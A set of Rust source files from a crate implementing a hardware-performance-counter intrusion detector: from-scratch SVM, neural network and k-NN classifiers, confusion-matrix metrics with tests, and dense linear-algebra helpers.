    /// Regularization strength (λ).
    pub lambda: f64,
    /// Shuffling seed.
    pub seed: u64,
}

impl RefLinearSvm {
    /// Creates an untrained model with the defaults used by the HID.
    pub fn new() -> RefLinearSvm {
        RefLinearSvm {
            weights: Vec::new(),
            bias: 0.0,
            learning_rate: 0.02,
            epochs: 60,
            lambda: 1e-4,
            seed: 23,
        }
    }

    /// Signed decision value (positive = attack).
    pub fn decision(&self, row: &[f64]) -> f64 {
        dot(&self.weights, row) + self.bias
    }

    /// The trained weight vector.
    pub fn weights(&self) -> &[f64] {
        &self.weights
    }

    /// The trained bias term.
    pub fn bias(&self) -> f64 {
        self.bias
    }
}

impl Default for RefLinearSvm {
    fn default() -> RefLinearSvm {
        RefLinearSvm::new()
    }
}

impl Detector for RefLinearSvm {
    fn name(&self) -> &'static str {
        "SVM(ref)"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        let dim = x[0].len();
        self.weights = vec![0.0; dim];
        self.bias = 0.0;
        let mut order: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed);
        for _ in 0..self.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                let t = if y[i] == 1 { 1.0 } else { -1.0 };
                let margin = t * self.decision(&x[i]);
                for (w, &xi) in self.weights.iter_mut().zip(&x[i]) {
                    let grad = if margin < 1.0 { -t * xi } else { 0.0 };
                    *w -= self.learning_rate * (grad + self.lambda * *w);
                }
                if margin < 1.0 {
                    self.bias += self.learning_rate * t;
                }
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.decision(row) >= 0.0)
    }
}

/// Seed dense network: jagged `weights[l][j][i]` storage, per-sample
/// forward/backprop allocating activation vectors on every pass. Same
/// architecture constructors and hyper-parameter defaults as
/// [`crate::net::DenseNet`].
#[derive(Debug, Clone)]
pub struct RefDenseNet {
    name: &'static str,
    hidden: Vec<usize>,
    /// `weights[l][j][i]`: layer `l`, output unit `j`, input unit `i`.
    weights: Vec<Vec<Vec<f64>>>,
    biases: Vec<Vec<f64>>,
    /// Learning rate.
    pub learning_rate: f64,
    /// Full passes over the training data.
    pub epochs: usize,
    /// Initialization/shuffling seed.
    pub seed: u64,
}

impl RefDenseNet {
    /// A network with the given hidden-layer widths.
    pub fn new(name: &'static str, hidden: Vec<usize>) -> RefDenseNet {
        assert!(!hidden.is_empty(), "need at least one hidden layer");
        RefDenseNet {
            name,
            hidden,
            weights: Vec::new(),
            biases: Vec::new(),
            learning_rate: 0.02,
            epochs: 80,
            seed: 31,
        }
    }

    /// The paper's 3-layer MLP (input → two hidden ReLU layers → output).
    pub fn mlp() -> RefDenseNet {
        RefDenseNet::new("MLP(ref)", vec![24, 12])
    }

    /// The paper's 6-layer ReLU network (five hidden layers → output).
    pub fn nn6() -> RefDenseNet {
        RefDenseNet::new("NN(ref)", vec![32, 24, 16, 12, 8])
    }

    /// The trained jagged weight tensor (`[layer][unit][input]`).
    pub fn weights(&self) -> &[Vec<Vec<f64>>] {
        &self.weights
    }

    /// The trained per-layer bias vectors.
    pub fn biases(&self) -> &[Vec<f64>] {
        &self.biases
    }

    fn init(&mut self, input_dim: usize) {
        let mut rng = StdRng::seed_from_u64(self.seed);
        let mut sizes = vec![input_dim];
        sizes.extend_from_slice(&self.hidden);
        sizes.push(1);
        self.weights.clear();
        self.biases.clear();
        for l in 0..sizes.len() - 1 {
            let fan_in = sizes[l] as f64;
            let bound = (2.0 / fan_in).sqrt();
            let layer: Vec<Vec<f64>> = (0..sizes[l + 1])
                .map(|_| (0..sizes[l]).map(|_| rng.random_range(-bound..bound)).collect())
                .collect();
            self.weights.push(layer);
            self.biases.push(vec![0.0; sizes[l + 1]]);
        }
    }

    /// Forward pass returning pre-activations and activations per layer.
    fn forward(&self, row: &[f64]) -> (Vec<Vec<f64>>, Vec<Vec<f64>>) {
        let layers = self.weights.len();
        let mut zs = Vec::with_capacity(layers);
        let mut acts = Vec::with_capacity(layers + 1);
        acts.push(row.to_vec());
        for l in 0..layers {
            let input = &acts[l];
            let z: Vec<f64> = self.weights[l]
                .iter()
                .zip(&self.biases[l])
                .map(|(w, b)| w.iter().zip(input).map(|(wi, xi)| wi * xi).sum::<f64>() + b)
                .collect();
            let a: Vec<f64> = if l == layers - 1 {
                z.iter().map(|&v| sigmoid(v)).collect()
            } else {
                z.iter().map(|&v| relu(v)).collect()
            };
            zs.push(z);
            acts.push(a);
        }
        (zs, acts)
    }

    /// Probability that `row` is an attack sample.
    pub fn predict_proba(&self, row: &[f64]) -> f64 {
        let (_, acts) = self.forward(row);
        acts.last().expect("output layer")[0]
    }

    fn backprop(&mut self, row: &[f64], target: f64) {
        let layers = self.weights.len();
        let (zs, acts) = self.forward(row);
        // Output delta for sigmoid + BCE: (p - t).
        let mut delta = vec![acts[layers][0] - target];
        for l in (0..layers).rev() {
            // Gradient step for this layer, then propagate.
            let prev_delta: Vec<f64> = if l > 0 {
                (0..self.weights[l][0].len())
                    .map(|i| {
                        let upstream: f64 = delta
                            .iter()
                            .enumerate()
                            .map(|(j, d)| d * self.weights[l][j][i])
                            .sum();
                        upstream * relu_grad(zs[l - 1][i])
                    })
                    .collect()
            } else {
                Vec::new()
            };
            for (j, d) in delta.iter().enumerate() {
                for (w, &a) in self.weights[l][j].iter_mut().zip(&acts[l]) {
                    *w -= self.learning_rate * d * a;
                }
                self.biases[l][j] -= self.learning_rate * d;
            }
            delta = prev_delta;
        }
    }
}

impl Detector for RefDenseNet {
    fn name(&self) -> &'static str {
        self.name
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        self.init(x[0].len());
        let mut order: Vec<usize> = (0..x.len()).collect();
        let mut rng = StdRng::seed_from_u64(self.seed ^ 0x9e37_79b9);
        for _ in 0..self.epochs {
            order.shuffle(&mut rng);
            for &i in &order {
                self.backprop(&x[i], f64::from(y[i]));
            }
        }
    }

    fn predict(&self, row: &[f64]) -> u8 {
        u8::from(self.predict_proba(row) >= 0.5)
    }
}

/// Seed k-NN: full stable sort of all distances per query (O(n log n))
/// instead of the fast path's linear-time selection. Ties on distance
/// keep training order, which is exactly what the fast path's
/// `(distance, index)` tie-break reproduces.
#[derive(Debug, Clone)]
pub struct RefKnn {
    /// Number of neighbours consulted (odd avoids ties).
    pub k: usize,
    x: Vec<Vec<f64>>,
    y: Vec<u8>,
}

impl RefKnn {
    /// Creates an untrained k-NN with `k = 5`.
    pub fn new() -> RefKnn {
        RefKnn { k: 5, x: Vec::new(), y: Vec::new() }
    }

    fn distance2(a: &[f64], b: &[f64]) -> f64 {
        a.iter().zip(b).map(|(x, y)| (x - y) * (x - y)).sum()
    }
}

impl Default for RefKnn {
    fn default() -> RefKnn {
        RefKnn::new()
    }
}

impl Detector for RefKnn {
    fn name(&self) -> &'static str {
        "kNN(ref)"
    }

    fn fit(&mut self, x: &[Vec<f64>], y: &[u8]) {
        assert_eq!(x.len(), y.len(), "features/labels mismatch");
        assert!(!x.is_empty(), "cannot fit on no data");
        self.x = x.to_vec();
        self.y = y.to_vec();
    }

    fn predict(&self, row: &[f64]) -> u8 {
        assert!(!self.x.is_empty(), "knn must be fitted before predict");
        let k = self.k.min(self.x.len());
        let mut dists: Vec<(f64, u8)> = self
            .x
            .iter()
            .zip(&self.y)
            .map(|(xi, &yi)| (RefKnn::distance2(row, xi), yi))
            .collect();
        dists.sort_by(|a, b| a.0.partial_cmp(&b.0).expect("finite distances"));
        let attacks = dists[..k].iter().filter(|(_, label)| *label == 1).count();
        u8::from(attacks * 2 > k)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::testdata::blobs;

    #[test]
    fn reference_models_still_learn() {
        let (x, y) = blobs(120, 3, 2.5, 61);
        let mut lr = RefLogisticRegression::new();
        lr.fit(&x, &y);
        assert!(lr.accuracy(&x, &y) > 0.95);
        let mut svm = RefLinearSvm::new();
        svm.fit(&x, &y);
        assert!(svm.accuracy(&x, &y) > 0.95);
        let mut knn = RefKnn::new();
        knn.fit(&x, &y);
        assert!(knn.accuracy(&x, &y) > 0.95);
        let mut mlp = RefDenseNet::mlp();
        mlp.fit(&x, &y);
        assert!(mlp.accuracy(&x, &y) > 0.95);
    }
}

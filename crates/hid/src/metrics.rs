//! Classification metrics beyond plain accuracy: the confusion matrix
//! and the derived rates.
//!
//! The paper reports a single accuracy number per attempt; these metrics
//! expose what that number hides — in particular the **false-positive
//! rate** a self-poisoned online HID accumulates while chasing dynamic
//! perturbation variants.

use crate::detector::Hid;

/// A binary confusion matrix (attack = positive class).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Confusion {
    /// Attack windows flagged attack.
    pub true_positives: usize,
    /// Benign windows flagged attack (false alarms).
    pub false_positives: usize,
    /// Benign windows passed as benign.
    pub true_negatives: usize,
    /// Attack windows passed as benign (misses).
    pub false_negatives: usize,
}

impl Confusion {
    /// Builds the matrix by classifying labelled raw rows with `hid`.
    ///
    /// Classification runs through [`Hid::classify_batch`] — one
    /// normalize-and-predict pass over the whole set instead of a
    /// per-row round trip.
    pub fn measure(hid: &Hid, rows: &[Vec<f64>], labels: &[u8]) -> Confusion {
        assert_eq!(rows.len(), labels.len(), "rows/labels mismatch");
        let mut c = Confusion::default();
        for (&label, predicted) in labels.iter().zip(hid.classify_batch(rows)) {
            match (label, predicted) {
                (1, 1) => c.true_positives += 1,
                (0, 1) => c.false_positives += 1,
                (0, 0) => c.true_negatives += 1,
                (1, 0) => c.false_negatives += 1,
                _ => unreachable!("labels are 0/1"),
            }
        }
        c
    }

    /// Total samples counted.
    pub fn total(&self) -> usize {
        self.true_positives + self.false_positives + self.true_negatives + self.false_negatives
    }

    /// Overall accuracy.
    pub fn accuracy(&self) -> f64 {
        if self.total() == 0 {
            return 0.0;
        }
        (self.true_positives + self.true_negatives) as f64 / self.total() as f64
    }

    /// Attack recall (the paper's Figures 5/6 metric).
    pub fn recall(&self) -> f64 {
        let p = self.true_positives + self.false_negatives;
        if p == 0 {
            return 0.0;
        }
        self.true_positives as f64 / p as f64
    }

    /// Precision of attack flags.
    pub fn precision(&self) -> f64 {
        let flagged = self.true_positives + self.false_positives;
        if flagged == 0 {
            return 0.0;
        }
        self.true_positives as f64 / flagged as f64
    }

    /// False-positive rate over benign windows (the defender's alarm
    /// fatigue).
    pub fn false_positive_rate(&self) -> f64 {
        let n = self.false_positives + self.true_negatives;
        if n == 0 {
            return 0.0;
        }
        self.false_positives as f64 / n as f64
    }

    /// Harmonic mean of precision and recall.
    pub fn f1(&self) -> f64 {
        let p = self.precision();
        let r = self.recall();
        if p + r == 0.0 {
            return 0.0;
        }
        2.0 * p * r / (p + r)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::{HidKind, HidMode};
    use cr_spectre_hpc::dataset::{Dataset, Label};

    fn trained_hid() -> Hid {
        let mut train = Dataset::new();
        for i in 0..100 {
            let attack = i % 2 == 1;
            let base = if attack { 10.0 } else { 1.0 };
            train.push_row(
                vec![base + (i % 5) as f64 * 0.1],
                if attack { Label::Attack } else { Label::Benign },
            );
        }
        Hid::train(HidKind::Lr, HidMode::Offline, train)
    }

    #[test]
    fn perfect_classifier_has_perfect_metrics() {
        let hid = trained_hid();
        let rows = vec![vec![1.0], vec![10.0], vec![1.2], vec![10.2]];
        let labels = vec![0, 1, 0, 1];
        let c = Confusion::measure(&hid, &rows, &labels);
        assert_eq!(c.total(), 4);
        assert_eq!(c.accuracy(), 1.0);
        assert_eq!(c.recall(), 1.0);
        assert_eq!(c.precision(), 1.0);
        assert_eq!(c.false_positive_rate(), 0.0);
        assert_eq!(c.f1(), 1.0);
    }

    #[test]
    fn metrics_arithmetic() {
        let c = Confusion {
            true_positives: 6,
            false_positives: 2,
            true_negatives: 8,
            false_negatives: 4,
        };
        assert_eq!(c.total(), 20);
        assert!((c.accuracy() - 0.7).abs() < 1e-12);
        assert!((c.recall() - 0.6).abs() < 1e-12);
        assert!((c.precision() - 0.75).abs() < 1e-12);
        assert!((c.false_positive_rate() - 0.2).abs() < 1e-12);
        let f1 = 2.0 * 0.75 * 0.6 / (0.75 + 0.6);
        assert!((c.f1() - f1).abs() < 1e-12);
    }

    #[test]
    fn degenerate_cases_are_zero_not_nan() {
        let c = Confusion::default();
        assert_eq!(c.accuracy(), 0.0);
        assert_eq!(c.recall(), 0.0);
        assert_eq!(c.precision(), 0.0);
        assert_eq!(c.false_positive_rate(), 0.0);
        assert_eq!(c.f1(), 0.0);
    }
}

//! # cr-spectre-hid
//!
//! The paper's hardware-assisted intrusion detection system (HID): from-
//! scratch machine-learning classifiers over hardware-performance-counter
//! features, deployable in offline (train-once) or online (retrain-on-new-
//! traces) mode.
//!
//! Model families, matching the paper's evaluation:
//!
//! * [`net::DenseNet::mlp`] — the 3-layer "MLP (Sklearn)" classifier;
//! * [`net::DenseNet::nn6`] — the 6-layer ReLU "NN (TensorFlow)" network;
//! * [`logreg::LogisticRegression`] — "LR";
//! * [`svm::LinearSvm`] — linear-kernel "SVM".
//!
//! The deployed wrapper [`detector::Hid`] owns the normalizer and (for
//! online mode) the growing training corpus, and exposes the paper's
//! metrics: test accuracy (Figure 4) and per-attempt detection rate
//! (Figures 5–6), with the 55 % evasion / 80 % detection thresholds.
//!
//! # Example
//!
//! ```
//! use cr_spectre_hid::detector::{Hid, HidKind, HidMode};
//! use cr_spectre_hpc::dataset::{Dataset, Label};
//!
//! let mut train = Dataset::new();
//! for i in 0..100 {
//!     let attack = i % 2 == 1;
//!     let base = if attack { 10.0 } else { 1.0 };
//!     let label = if attack { Label::Attack } else { Label::Benign };
//!     train.push_row(vec![base + (i % 5) as f64 * 0.1, base], label);
//! }
//! let hid = Hid::train(HidKind::Lr, HidMode::Offline, train.clone());
//! assert!(hid.test_accuracy(&train) > 0.95);
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod detector;
pub mod knn;
pub mod linalg;
pub mod logreg;
pub mod metrics;
pub mod net;
pub mod reference;
pub mod svm;
pub mod tree;

pub use detector::{Detector, Hid, HidKind, HidMode, DETECTED_THRESHOLD, EVADED_THRESHOLD};
pub use knn::Knn;
pub use linalg::Mat;
pub use logreg::LogisticRegression;
pub use net::DenseNet;
pub use svm::LinearSvm;
pub use tree::DecisionTree;

//! Minimal dense linear algebra for the from-scratch classifiers.

/// Dot product of two equal-length slices.
///
/// # Panics
///
/// Panics when the lengths differ.
pub fn dot(a: &[f64], b: &[f64]) -> f64 {
    assert_eq!(a.len(), b.len(), "dot of mismatched lengths");
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

/// `out += alpha * x` (axpy).
///
/// # Panics
///
/// Panics when the lengths differ.
pub fn axpy(alpha: f64, x: &[f64], out: &mut [f64]) {
    assert_eq!(x.len(), out.len(), "axpy of mismatched lengths");
    for (o, v) in out.iter_mut().zip(x) {
        *o += alpha * v;
    }
}

/// Scales a vector in place.
pub fn scale(alpha: f64, x: &mut [f64]) {
    for v in x {
        *v *= alpha;
    }
}

/// Numerically stable logistic sigmoid.
pub fn sigmoid(z: f64) -> f64 {
    if z >= 0.0 {
        1.0 / (1.0 + (-z).exp())
    } else {
        let e = z.exp();
        e / (1.0 + e)
    }
}

/// Rectified linear unit.
pub fn relu(z: f64) -> f64 {
    z.max(0.0)
}

/// Derivative of ReLU (0 at the kink, as is conventional).
pub fn relu_grad(z: f64) -> f64 {
    if z > 0.0 {
        1.0
    } else {
        0.0
    }
}

/// Matrix–vector product: `m` is row-major `[rows][cols]`.
///
/// # Panics
///
/// Panics when a row's width differs from `x`.
pub fn matvec(m: &[Vec<f64>], x: &[f64]) -> Vec<f64> {
    m.iter().map(|row| dot(row, x)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dot_basic() {
        assert_eq!(dot(&[1.0, 2.0, 3.0], &[4.0, 5.0, 6.0]), 32.0);
        assert_eq!(dot(&[], &[]), 0.0);
    }

    #[test]
    #[should_panic(expected = "mismatched")]
    fn dot_mismatch_panics() {
        let _ = dot(&[1.0], &[1.0, 2.0]);
    }

    #[test]
    fn axpy_accumulates() {
        let mut out = vec![1.0, 1.0];
        axpy(2.0, &[3.0, 4.0], &mut out);
        assert_eq!(out, vec![7.0, 9.0]);
    }

    #[test]
    fn scale_in_place() {
        let mut x = vec![2.0, -4.0];
        scale(0.5, &mut x);
        assert_eq!(x, vec![1.0, -2.0]);
    }

    #[test]
    fn sigmoid_properties() {
        assert!((sigmoid(0.0) - 0.5).abs() < 1e-12);
        assert!(sigmoid(40.0) > 0.999_999);
        assert!(sigmoid(-40.0) < 1e-6);
        // Stability at extremes.
        assert!(sigmoid(-1000.0).is_finite());
        assert!(sigmoid(1000.0).is_finite());
        // Symmetry.
        assert!((sigmoid(2.0) + sigmoid(-2.0) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn relu_and_grad() {
        assert_eq!(relu(-3.0), 0.0);
        assert_eq!(relu(3.0), 3.0);
        assert_eq!(relu_grad(-1.0), 0.0);
        assert_eq!(relu_grad(1.0), 1.0);
        assert_eq!(relu_grad(0.0), 0.0);
    }

    #[test]
    fn matvec_shape() {
        let m = vec![vec![1.0, 0.0], vec![0.0, 2.0], vec![1.0, 1.0]];
        assert_eq!(matvec(&m, &[3.0, 4.0]), vec![3.0, 8.0, 7.0]);
    }
}

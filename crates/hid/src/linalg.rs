//! Minimal dense linear algebra for the from-scratch classifiers.
//!
//! Two tiers live here:
//!
//! * the scalar seed primitives ([`dot`], [`axpy`], [`matvec`]) the
//!   original jagged `Vec<Vec<f64>>` implementations were written
//!   against — kept verbatim, because they define the reference
//!   floating-point evaluation order;
//! * the flat math core ([`Mat`], [`Scratch`], [`gemm_nt`],
//!   [`matvec_into`]) the detector fast paths run on: one contiguous
//!   row-major allocation per matrix, cache-blocked GEMM, and a buffer
//!   arena so training epochs allocate nothing.
//!
//! **Bit-exactness contract:** every element any flat routine produces
//! is computed by the *same* inner k-order fold as [`dot`] — blocking
//! only reorders which (row, column) pairs are visited, never the
//! additions inside one pair. `crates/hid/tests/fastmath_equivalence.rs`
//! and the proptests in `crates/hid/tests/props.rs` lock this in
//! against the seed implementations.

/// Dot product of two equal-length slices.
///
/// # Panics
///
/// Panics when the lengths differ.
pub fn dot(a: &[f64], b: &[f64]) -> f64 {
    assert_eq!(a.len(), b.len(), "dot of mismatched lengths");
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

/// `out += alpha * x` (axpy).
///
/// # Panics
///
/// Panics when the lengths differ.
pub fn axpy(alpha: f64, x: &[f64], out: &mut [f64]) {
    assert_eq!(x.len(), out.len(), "axpy of mismatched lengths");
    for (o, v) in out.iter_mut().zip(x) {
        *o += alpha * v;
    }
}

/// Scales a vector in place.
pub fn scale(alpha: f64, x: &mut [f64]) {
    for v in x {
        *v *= alpha;
    }
}

/// Numerically stable logistic sigmoid.
pub fn sigmoid(z: f64) -> f64 {
    if z >= 0.0 {
        1.0 / (1.0 + (-z).exp())
    } else {
        let e = z.exp();
        e / (1.0 + e)
    }
}

/// Rectified linear unit.
pub fn relu(z: f64) -> f64 {
    z.max(0.0)
}

/// Derivative of ReLU (0 at the kink, as is conventional).
pub fn relu_grad(z: f64) -> f64 {
    if z > 0.0 {
        1.0
    } else {
        0.0
    }
}

/// Matrix–vector product: `m` is row-major `[rows][cols]`.
///
/// # Panics
///
/// Panics when a row's width differs from `x`.
pub fn matvec(m: &[Vec<f64>], x: &[f64]) -> Vec<f64> {
    m.iter().map(|row| dot(row, x)).collect()
}

/// A dense row-major matrix backed by one contiguous allocation.
///
/// `Mat` is the carrier type of the detector fast paths: feature
/// corpora, network weight layers and whole-batch activations all live
/// in one `Vec<f64>` each, so iterating rows is a pointer bump instead
/// of a pointer chase through per-row boxes.
#[derive(Debug, Clone, PartialEq)]
pub struct Mat {
    data: Vec<f64>,
    rows: usize,
    cols: usize,
}

impl Mat {
    /// An all-zero matrix of the given shape.
    pub fn zeros(rows: usize, cols: usize) -> Mat {
        Mat { data: vec![0.0; rows * cols], rows, cols }
    }

    /// Wraps an existing flat buffer (row-major) without copying.
    ///
    /// # Panics
    ///
    /// Panics when `data.len() != rows * cols`.
    pub fn from_vec(data: Vec<f64>, rows: usize, cols: usize) -> Mat {
        assert_eq!(data.len(), rows * cols, "flat buffer does not match shape");
        Mat { data, rows, cols }
    }

    /// Copies a jagged row set into one flat allocation.
    ///
    /// # Panics
    ///
    /// Panics when rows have inconsistent widths.
    pub fn from_rows(rows: &[Vec<f64>]) -> Mat {
        let cols = rows.first().map_or(0, Vec::len);
        let mut data = Vec::with_capacity(rows.len() * cols);
        for row in rows {
            assert_eq!(row.len(), cols, "inconsistent row width");
            data.extend_from_slice(row);
        }
        Mat { data, rows: rows.len(), cols }
    }

    /// Number of rows.
    pub fn rows(&self) -> usize {
        self.rows
    }

    /// Number of columns.
    pub fn cols(&self) -> usize {
        self.cols
    }

    /// One row as a slice.
    pub fn row(&self, i: usize) -> &[f64] {
        &self.data[i * self.cols..(i + 1) * self.cols]
    }

    /// One row as a mutable slice.
    pub fn row_mut(&mut self, i: usize) -> &mut [f64] {
        &mut self.data[i * self.cols..(i + 1) * self.cols]
    }

    /// The whole backing buffer, row-major.
    pub fn as_slice(&self) -> &[f64] {
        &self.data
    }

    /// The whole backing buffer, row-major, mutable.
    pub fn as_mut_slice(&mut self) -> &mut [f64] {
        &mut self.data
    }

    /// Iterates rows in order (zero-width rows included).
    pub fn iter_rows(&self) -> impl Iterator<Item = &[f64]> {
        (0..self.rows).map(move |i| &self.data[i * self.cols..(i + 1) * self.cols])
    }

    /// Reshapes in place to `rows × cols`, zero-filling; keeps the
    /// allocation when capacity suffices.
    pub fn reset(&mut self, rows: usize, cols: usize) {
        self.data.clear();
        self.data.resize(rows * cols, 0.0);
        self.rows = rows;
        self.cols = cols;
    }
}

/// Cache-block edge for [`gemm_nt`]: 32×32 output tiles keep one tile
/// of each operand (~8 KiB at 4-wide features, still fine at 32-wide
/// hidden layers) resident in L1 while the full-k inner loop runs.
const GEMM_BLOCK: usize = 32;

/// `out = a · bᵀ` — the whole-batch product of two row-major matrices
/// sharing their inner (k) dimension, i/j-blocked for cache reuse.
///
/// Every output element is exactly `dot(a.row(i), b.row(j))`: the k
/// loop is never split, so each element's floating-point fold matches
/// the scalar seed path bit for bit.
///
/// # Panics
///
/// Panics when the shapes disagree.
pub fn gemm_nt(a: &Mat, b: &Mat, out: &mut Mat) {
    assert_eq!(a.cols(), b.cols(), "gemm_nt inner dimensions differ");
    assert_eq!(out.rows(), a.rows(), "gemm_nt output rows mismatch");
    assert_eq!(out.cols(), b.rows(), "gemm_nt output cols mismatch");
    let (m, n) = (a.rows(), b.rows());
    for ib in (0..m).step_by(GEMM_BLOCK) {
        let ie = (ib + GEMM_BLOCK).min(m);
        for jb in (0..n).step_by(GEMM_BLOCK) {
            let je = (jb + GEMM_BLOCK).min(n);
            for i in ib..ie {
                let ar = a.row(i);
                let or = &mut out.row_mut(i)[jb..je];
                for (o, j) in or.iter_mut().zip(jb..je) {
                    // Full-k inner fold: identical order to `dot`.
                    *o = dot(ar, b.row(j));
                }
            }
        }
    }
}

/// `out[j] = dot(m.row(j), x)` without allocating — the flat
/// counterpart of [`matvec`].
///
/// # Panics
///
/// Panics when the shapes disagree.
pub fn matvec_into(m: &Mat, x: &[f64], out: &mut [f64]) {
    assert_eq!(m.cols(), x.len(), "matvec_into width mismatch");
    assert_eq!(m.rows(), out.len(), "matvec_into output length mismatch");
    for (o, row) in out.iter_mut().zip(m.iter_rows()) {
        *o = dot(row, x);
    }
}

/// A free-list arena of reusable `f64` buffers.
///
/// Training loops take their activation/gradient buffers from a
/// `Scratch` once per fit; nothing inside an epoch allocates. Returned
/// buffers keep their capacity, so a retrain at the same shape is
/// allocation-free end to end.
#[derive(Debug, Default)]
pub struct Scratch {
    pool: Vec<Vec<f64>>,
}

impl Scratch {
    /// An empty arena.
    pub fn new() -> Scratch {
        Scratch::default()
    }

    /// Hands out a zeroed buffer of length `len`, reusing a pooled
    /// allocation when one is available.
    pub fn take(&mut self, len: usize) -> Vec<f64> {
        let mut buf = self.pool.pop().unwrap_or_default();
        buf.clear();
        buf.resize(len, 0.0);
        buf
    }

    /// Returns a buffer to the pool for reuse.
    pub fn put(&mut self, buf: Vec<f64>) {
        self.pool.push(buf);
    }

    /// Buffers currently pooled (diagnostics).
    pub fn pooled(&self) -> usize {
        self.pool.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dot_basic() {
        assert_eq!(dot(&[1.0, 2.0, 3.0], &[4.0, 5.0, 6.0]), 32.0);
        assert_eq!(dot(&[], &[]), 0.0);
    }

    #[test]
    #[should_panic(expected = "mismatched")]
    fn dot_mismatch_panics() {
        let _ = dot(&[1.0], &[1.0, 2.0]);
    }

    #[test]
    fn axpy_accumulates() {
        let mut out = vec![1.0, 1.0];
        axpy(2.0, &[3.0, 4.0], &mut out);
        assert_eq!(out, vec![7.0, 9.0]);
    }

    #[test]
    fn scale_in_place() {
        let mut x = vec![2.0, -4.0];
        scale(0.5, &mut x);
        assert_eq!(x, vec![1.0, -2.0]);
    }

    #[test]
    fn sigmoid_properties() {
        assert!((sigmoid(0.0) - 0.5).abs() < 1e-12);
        assert!(sigmoid(40.0) > 0.999_999);
        assert!(sigmoid(-40.0) < 1e-6);
        // Stability at extremes.
        assert!(sigmoid(-1000.0).is_finite());
        assert!(sigmoid(1000.0).is_finite());
        // Symmetry.
        assert!((sigmoid(2.0) + sigmoid(-2.0) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn relu_and_grad() {
        assert_eq!(relu(-3.0), 0.0);
        assert_eq!(relu(3.0), 3.0);
        assert_eq!(relu_grad(-1.0), 0.0);
        assert_eq!(relu_grad(1.0), 1.0);
        assert_eq!(relu_grad(0.0), 0.0);
    }

    #[test]
    fn matvec_shape() {
        let m = vec![vec![1.0, 0.0], vec![0.0, 2.0], vec![1.0, 1.0]];
        assert_eq!(matvec(&m, &[3.0, 4.0]), vec![3.0, 8.0, 7.0]);
    }

    #[test]
    fn mat_from_rows_round_trips() {
        let rows = vec![vec![1.0, 2.0], vec![3.0, 4.0], vec![5.0, 6.0]];
        let m = Mat::from_rows(&rows);
        assert_eq!((m.rows(), m.cols()), (3, 2));
        for (i, row) in rows.iter().enumerate() {
            assert_eq!(m.row(i), row.as_slice());
        }
        assert_eq!(m.as_slice(), &[1.0, 2.0, 3.0, 4.0, 5.0, 6.0]);
        assert_eq!(m.iter_rows().count(), 3);
    }

    #[test]
    #[should_panic(expected = "inconsistent row width")]
    fn mat_from_ragged_rows_panics() {
        let _ = Mat::from_rows(&[vec![1.0], vec![1.0, 2.0]]);
    }

    #[test]
    #[should_panic(expected = "does not match shape")]
    fn mat_from_vec_shape_mismatch_panics() {
        let _ = Mat::from_vec(vec![1.0, 2.0, 3.0], 2, 2);
    }

    #[test]
    fn mat_zero_width_rows_iterate() {
        let m = Mat::zeros(3, 0);
        assert_eq!(m.iter_rows().count(), 3);
        assert!(m.iter_rows().all(|r| r.is_empty()));
    }

    #[test]
    fn mat_reset_keeps_allocation() {
        let mut m = Mat::from_rows(&[vec![1.0, 2.0], vec![3.0, 4.0]]);
        let cap = m.as_slice().len();
        m.reset(1, 2);
        assert_eq!((m.rows(), m.cols()), (1, 2));
        assert_eq!(m.row(0), &[0.0, 0.0]);
        assert!(cap >= 2);
    }

    #[test]
    fn gemm_nt_matches_per_element_dot() {
        // Shapes straddling the 32-wide block edge.
        for (m, n, k) in [(1, 1, 1), (3, 5, 4), (33, 34, 7), (64, 32, 33), (2, 2, 0)] {
            let a = Mat::from_vec(
                (0..m * k).map(|v| (v as f64).sin()).collect(),
                m,
                k,
            );
            let b = Mat::from_vec(
                (0..n * k).map(|v| (v as f64 * 0.7).cos()).collect(),
                n,
                k,
            );
            let mut c = Mat::zeros(m, n);
            gemm_nt(&a, &b, &mut c);
            for i in 0..m {
                for j in 0..n {
                    assert_eq!(
                        c.row(i)[j].to_bits(),
                        dot(a.row(i), b.row(j)).to_bits(),
                        "({m},{n},{k}) element ({i},{j})"
                    );
                }
            }
        }
    }

    #[test]
    fn matvec_into_matches_matvec() {
        let jagged = vec![vec![1.0, 0.5], vec![0.25, 2.0], vec![1.0, 1.0]];
        let m = Mat::from_rows(&jagged);
        let x = [3.0, 4.0];
        let mut out = vec![0.0; 3];
        matvec_into(&m, &x, &mut out);
        assert_eq!(out, matvec(&jagged, &x));
    }

    #[test]
    fn scratch_reuses_buffers() {
        let mut s = Scratch::new();
        let mut a = s.take(8);
        a[0] = 7.0;
        let ptr = a.as_ptr();
        s.put(a);
        assert_eq!(s.pooled(), 1);
        let b = s.take(4);
        assert_eq!(b, vec![0.0; 4], "recycled buffers are zeroed");
        assert_eq!(b.as_ptr(), ptr, "allocation is reused");
        assert_eq!(s.pooled(), 0);
    }
}

//! The HID: a trained detector with offline or online learning, plus the
//! paper's evasion/detection thresholds.

use cr_spectre_hpc::dataset::Dataset;
use cr_spectre_hpc::features::Normalizer;
use cr_spectre_telemetry as telemetry;

use crate::linalg::Mat;
use crate::logreg::LogisticRegression;
use crate::net::DenseNet;
use crate::svm::LinearSvm;

/// Accuracy below which the paper considers the attack to have evaded
/// detection ("we consider accuracy of 55% or less").
pub const EVADED_THRESHOLD: f64 = 0.55;
/// Accuracy above which the paper considers the attack detected
/// ("detects the attack with high accuracy (>80%)").
pub const DETECTED_THRESHOLD: f64 = 0.80;

/// A binary attack/benign classifier.
///
